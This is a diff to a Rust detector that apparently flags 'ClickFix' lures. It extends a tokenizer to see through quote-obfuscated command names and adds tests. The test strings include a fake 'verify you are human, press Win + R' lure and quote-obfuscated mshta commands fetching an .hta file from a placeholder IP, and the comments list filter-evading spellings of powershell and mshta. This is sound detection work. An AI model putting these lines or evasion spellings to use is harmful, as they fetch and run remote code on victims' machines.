@@ -1255,12 +1255,12 @@ fn typed_lines(text: &str) -> Vec<&str> {
     let mut out: Vec<&str> = Vec::new();
     let mut i = 0;
     while i < b.len() && out.len() < TYPED_LINES {
-        // A name starts a word and ends it (`powershell.exe`, `iex(irm`); carets and backticks
-        // inside it only hide it from filters (`m^s^h^t^a`, ``p`o`w`e`r`s`h`e`l`l``), as
-        // `recognise` reads them.
+        // A name starts a word and ends it (`powershell.exe`, `iex(irm`); carets, backticks and
+        // empty quotes inside it only hide it from filters (`m^s^h^t^a`,
+        // ``p`o`w`e`r`s`h`e`l`l``, `ms''hta`, `m"sh"ta`), as `recognise` reads them.
         let len = b[i..]
             .iter()
-            .take_while(|c| c.is_ascii_alphanumeric() || **c == b'^' || **c == b'`')
+            .take_while(|c| c.is_ascii_alphanumeric() || matches!(**c, b'^' | b'`' | b'\'' | b'"'))
             .count();
         let word = b[i..i + len].iter().filter(|c| c.is_ascii_alphanumeric());
         let len = len.max(1);
@@ -2688,6 +2688,19 @@ mod tests {
             };
             crate::engine::analyse(&snap, &Options::default()).kind
         };
+        // Quotes inside the name hide it too (twelfth session review).
+        for line in [
+            "ms''hta http://203.0.113.9/x.hta",
+            "m\"sh\"ta http://203.0.113.9/x.hta",
+        ] {
+            assert_eq!(
+                v(&format!(
+                    "Verify you are human. Press Win + R, type the line below and press Enter:\n{line}"
+                )),
+                crate::verdict::Kind::Clickfix,
+                "{line}"
+            );
+        }
         assert_eq!(
             v(
                 "Verify you are human. Press Win+R, type the line below and press Enter:\n\
